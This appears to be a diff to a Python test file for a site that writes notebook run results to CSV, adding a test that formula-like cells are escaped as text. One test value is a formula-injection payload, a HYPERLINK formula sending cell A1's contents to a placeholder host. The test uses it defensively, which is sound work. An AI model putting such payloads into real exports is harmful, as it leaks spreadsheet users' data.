@@ -90,6 +90,18 @@ def test_runs_csv_round_trip(tmp_path):
     assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheet programs then read UTF-8
     back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
     assert back.to_dict("records") == runs.to_dict("records")
+    assert site.read_runs_csv(tmp_path).to_dict("records") == runs.to_dict("records")
+
+
+def test_runs_csv_cells_that_start_like_a_formula_stay_text(tmp_path):
+    runs = pd.DataFrame([{"region": '=HYPERLINK("http://example.invalid/?"&A1,"点击")', "notebook": "01-a",
+                          "status": "failed", "duration_s": 1.5, "error": "-1+1", "failing_cell": "@SUM(1+1)",
+                          "html": "+1+1村/01-a.html", "attempts": 1}])
+    path = site.write_runs_csv(tmp_path, runs)
+    raw = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)
+    for column in ("region", "error", "failing_cell", "html"):
+        assert raw[column].iloc[0] == "'" + runs[column].iloc[0]   # a spreadsheet shows it as text
+    assert site.read_runs_csv(tmp_path).to_dict("records") == runs.to_dict("records")
 
 
 # ------------------------------------------------------------------------------------------- manifest
